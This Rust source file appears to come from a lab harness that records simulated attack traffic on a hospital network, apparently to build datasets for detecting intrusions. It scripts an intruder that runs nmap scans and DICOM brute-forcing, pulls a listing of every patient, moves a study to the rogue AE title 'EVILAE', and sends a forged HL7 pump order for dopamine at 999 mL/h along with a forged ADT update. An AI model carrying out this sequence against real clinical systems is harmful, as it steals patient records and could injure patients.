//! An intruder amid ordinary traffic.

use std::io;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};

use super::pumps::programs;
use super::{INTERFACES, RADIOLOGY, STUDY, head};
use crate::hl7::{body, message, pump};
use crate::lab::pause;
use crate::record::dcmtk::{Run, orthanc};
use crate::record::stage::{Beside, Stage};

/// Records an intruder amid ordinary traffic.
pub fn attack(file: &Path, beside: Option<Box<dyn Beside>>) -> io::Result<()> {
    let mut stage = Stage::new(file, beside)?;
    stage.hosts(&RADIOLOGY[..4])?;
    stage.hosts(&INTERFACES[..1])?;
    stage.hosts(&INTERFACES[6..8])?;
    stage.host(
        "intruder",
        "10.20.9.66",
        "intruder: nmap, DCMTK, pynetdicom, python-hl7",
    )?;
    let ct = stage.images("ct", &["--count", "3", "--size", "64"])?;
    let slices = [
        "--modality",
        "MR",
        "--patient",
        "2",
        "--count",
        "3",
        "--size",
        "64",
    ];
    let mr = stage.images("mr", &slices)?;
    stage.record()?;
    let _archive = orthanc(&stage, "pacs", "10.20.2.31")?;
    let _engine = stage.serve("engine", "hl7_server.py", 2575, &[])?;
    let _programmer = stage.serve("bcma", "hl7_server.py", 3001, &[])?;
    let gateway = stage.serve(
        "gateway",
        "hl7_server.py",
        3000,
        &["--respond", "10.20.4.20:3001"],
    )?;
    Run::new("storescu", "ct", ("CT01", "PACS"))
        .folder(&ct)
        .perform(&mut stage)?;
    scans(&mut stage)?;
    let store = [
        "store",
        "10.20.2.10",
        "104",
        "--calling",
        "MR01",
        "--folder",
        &mr,
    ];
    stage.play("mr", "dicom_client.py", &store)?;
    theft(&mut stage)?;
    forgeries(&mut stage)?;
    pause(Duration::from_secs(1));
    stage.note_lines("gateway", &gateway.log());
    stage.end()
}

/// Lists all patients, and asks that a study be sent to nobody known.
fn theft(stage: &mut Stage) -> io::Result<()> {
    let list = [
        "find",
        "10.20.2.10",
        "104",
        "--calling",
        "WS09",
        "--name",
        "*",
        "--times",
        "25",
    ];
    stage.play("intruder", "dicom_client.py", &list)?;
    let take = [
        "-S",
        "-k",
        "QueryRetrieveLevel=STUDY",
        "-aem",
        "EVILAE",
        "-k",
        STUDY,
    ];
    Run::new("movescu", "intruder", ("WS09", "PACS"))
        .options(&take)
        .perform(stage)
}

/// What nmap does: hosts, ports, dicom-ping and dicom-brute.
fn scans(stage: &mut Stage) -> io::Result<()> {
    let titles = [
        "ANY-SCP", "PACS1", "ARCHIVE", "ORTHANC", "DCM4CHEE", "STORESCP", "CONQUEST",
    ];
    let list = stage.lab.folder().join("titles.txt");
    crate::capture::write(&list, (titles.join("\n") + "\n").as_bytes())?;
    let guesses = format!("passdb={}", std::path::absolute(&list)?.to_string_lossy());
    let script = ["nmap", "-n", "-Pn", "-p", "104", "--script", "dicom-brute"];
    let brute = [&script[..], &["--script-args", &guesses, "10.20.2.10"]].concat();
    let commands: [&[&str]; 4] = [
        &["nmap", "-n", "-sn", "10.20.1.0/27"],
        &[
            "nmap",
            "-n",
            "-Pn",
            "-sS",
            "-T4",
            "-p",
            "1-120,2575,3000",
            "10.20.4.10",
        ],
        &[
            "nmap",
            "-n",
            "-Pn",
            "-p",
            "104",
            "--script",
            "dicom-ping",
            "10.20.2.10",
        ],
        &brute,
    ];
    for command in commands {
        let output = stage.lab.exec("intruder", command)?;
        if !output.status.success() {
            return Err(io::Error::other(format!("{command:?}: {output:?}")));
        }
        let shown: Vec<&str> = command
            .iter()
            .copied()
            .filter(|word| !word.starts_with("passdb="))
            .collect();
        let client = stage.address("intruder").to_owned();
        stage.note(
            json!({ "protocol": "scan", "tool": nmap(), "client": client, "command": shown }),
        );
    }
    Ok(())
}

fn nmap() -> Value {
    let output = Command::new("nmap").arg("--version").output();
    let text = output
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default();
    let words: Vec<&str> = text.split_whitespace().skip(1).take(2).collect();
    json!(format!(
        "nmap {}",
        words.last().copied().unwrap_or_default()
    ))
}

/// An admission and a pump order that nobody may send from there.
fn forgeries(stage: &mut Stage) -> io::Result<()> {
    let honest = stage.file("honest.json", &json!(&programs()[..1]))?;
    stage.play("bcma", "hl7_client.py", &["10.20.4.10", "3000", &honest])?;
    let order = pump::Order {
        control: "RE",
        id: "RX000666",
        patient: 1,
        pump: 1,
        drug: "1234^Dopamine",
        vtbi: "250",
        rate: ("999", pump::ML_PER_H),
    };
    let forged = json!([message(&pump::order_head("PIV00666"), &order.segments())]);
    let forged = stage.file("forged.json", &forged)?;
    stage.play(
        "intruder",
        "hl7_client.py",
        &["10.20.4.10", "3000", &forged],
    )?;
    let update = message(&head("EVILAPP", "ADT^A08^ADT_A01", 1), &body::adt("A08", 1));
    let update = stage.file("update.json", &json!([update]))?;
    stage.play(
        "intruder",
        "hl7_client.py",
        &["10.20.3.10", "2575", &update],
    )
}
